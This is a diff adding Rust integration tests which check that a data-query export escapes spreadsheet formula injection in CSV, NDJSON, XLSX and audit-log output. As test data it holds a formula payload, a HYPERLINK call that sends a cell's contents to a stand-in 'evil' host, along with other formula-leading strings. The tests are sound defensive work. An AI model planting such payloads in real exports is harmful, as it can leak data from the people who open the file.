@@ -1,0 +1,83 @@
+//! Text that a spreadsheet would run as a formula.
+use super::make;
+use crate::support::{Client, World};
+use calamine::{Reader, Xlsx};
+use reqwest::Method;
+use serde_json::json;
+use std::io::{Cursor, Read};
+use uuid::Uuid;
+
+const SQL: &str =
+    "select '=HYPERLINK(\"http://evil/?\"&A1)' as \"=1+1\", '@SUM(1)' as \"+a\", '-1' as b, '-A1' as c, -2 as d";
+
+async fn query(world: &World) -> Uuid {
+    let body = json!({"name": "Evil", "datasourceID": world.id("datasourceID"), "options": {"sql": SQL}});
+    make(&world.client, "data-queries", body).await
+}
+
+async fn file(client: &Client, query: Uuid, options: &str) -> Vec<u8> {
+    let answer = client.call(Method::POST, &format!("data-queries/{query}/export?{options}")).open().await;
+    assert_eq!(answer.status(), 200);
+    answer.bytes().await.unwrap().to_vec()
+}
+
+#[tokio::test]
+async fn an_export_as_csv_runs_no_formula_unless_it_is_asked_to_keep_them() {
+    let world = World::full().await;
+    let query = query(&world).await;
+    let text = async |options: &str| String::from_utf8(file(&world.client, query, options).await).unwrap();
+    let escaped = "'=1+1,'+a,b,c,d\n\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\",'@SUM(1),-1,'-A1,-2\n";
+    for options in ["", "format=csv", "format=csv&formulas=escape"] {
+        assert_eq!(text(options).await, escaped);
+    }
+    assert_eq!(text("format=csv&formulas=keep").await, escaped.replace('\'', ""));
+    let row: serde_json::Value = serde_json::from_str(&text("format=ndjson").await).unwrap();
+    assert_eq!(row["+a"], "@SUM(1)", "programs read NDJSON as it is");
+    world
+        .client
+        .post(&format!("data-queries/{query}/export?formulas=run"), json!({}))
+        .await
+        .refused(400, "INVALID_REQUEST");
+}
+
+/// The cells of the one sheet, and its parts by their names.
+fn opened(bytes: Vec<u8>) -> (Vec<Vec<String>>, String, String) {
+    let mut book = Xlsx::new(Cursor::new(bytes.clone())).unwrap();
+    let name = book.sheet_names()[0].clone();
+    let rows = book.worksheet_range(&name).unwrap();
+    let rows = rows.rows().map(|row| row.iter().map(ToString::to_string).collect()).collect();
+    let mut parts = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
+    let mut part = |name: &str| {
+        let mut text = String::new();
+        parts.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+        text
+    };
+    (rows, part("xl/worksheets/sheet1.xml"), part("xl/styles.xml"))
+}
+
+#[tokio::test]
+async fn an_export_as_xlsx_marks_what_must_not_become_a_formula() {
+    let world = World::full().await;
+    let query = query(&world).await;
+    let (rows, sheet, styles) = opened(file(&world.client, query, "format=xlsx").await);
+    assert_eq!(rows[0], ["=1+1", "+a", "b", "c", "d"]);
+    assert_eq!(rows[1], ["=HYPERLINK(\"http://evil/?\"&A1)", "@SUM(1)", "-1", "-A1", "-2"]);
+    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
+    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
+    let cell = |name: &str| sheet.split("<c ").find(|cell| cell.starts_with(&format!("r=\"{name}\""))).unwrap();
+    for formula in ["A1", "B1", "A2", "B2", "D2"] {
+        assert!(cell(formula).contains(" s=\""), "{}", cell(formula));
+    }
+    assert!(!cell("C2").contains(" s=\""), "{}", cell("C2"));
+    let (_, _, styles) = opened(file(&world.client, query, "format=xlsx&formulas=keep").await);
+    assert!(!styles.contains("quotePrefix"), "{styles}");
+}
+
+#[tokio::test]
+async fn the_audit_log_is_exported_by_the_same_rules() {
+    let world = World::full().await;
+    world.client.post("roles", json!({"name": "\u{ff1d}cmd()", "permissions": []})).await.expect(201);
+    let log = async |options: &str| world.client.get(&format!("audit-logs?action=role.create&{options}")).await.text;
+    assert!(log("format=csv").await.contains(",'\u{ff1d}cmd(),"));
+    assert!(log("format=csv&formulas=keep").await.contains(",\u{ff1d}cmd(),"));
+}
